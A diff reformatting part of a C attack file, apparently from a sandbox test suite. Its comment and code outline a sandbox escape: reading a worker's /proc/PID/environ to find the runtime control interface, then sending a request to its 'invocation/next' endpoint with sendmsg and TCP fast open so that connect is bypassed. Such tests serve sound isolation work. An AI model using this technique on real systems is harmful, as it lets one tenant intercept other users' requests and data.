@@ -1,9 +1,9 @@
 // SPDX-License-Identifier: MIT
 /*
  * Goal:  the next request, where the student's environment was cleaned.
- * Means: the worker's was not. Its /proc/PID/environ still says where the control interface is; then
- *        sendmsg(2) with the address of a connection that is opened by sending (TCP fast open), so that
- *        connect(2) is never called.
+ * Means: the worker's was not. Its /proc/PID/environ still says where the control interface is;
+ * then sendmsg(2) with the address of a connection that is opened by sending (TCP fast open), so
+ * that connect(2) is never called.
  */
 #include "attacks/attack.h"
 #include "attacks/proc-read/neighbours.h"
@@ -42,8 +42,9 @@ static enum claim run(const struct brief *b)
 	static char ask[] = "GET /2018-06-01/runtime/invocation/next HTTP/1.1\r\n"
 			    "Host: 127.0.0.1\r\n\r\n";
 	struct iovec text = { ask, sizeof(ask) - 1 };
-	struct msghdr message = { .msg_name = &api, .msg_namelen = sizeof(api),
-				  .msg_iov = &text, .msg_iovlen = 1 };
+	struct msghdr message = {
+		.msg_name = &api, .msg_namelen = sizeof(api), .msg_iov = &text, .msg_iovlen = 1
+	};
 	char event[4096];
 	ssize_t n;
 	int fd;
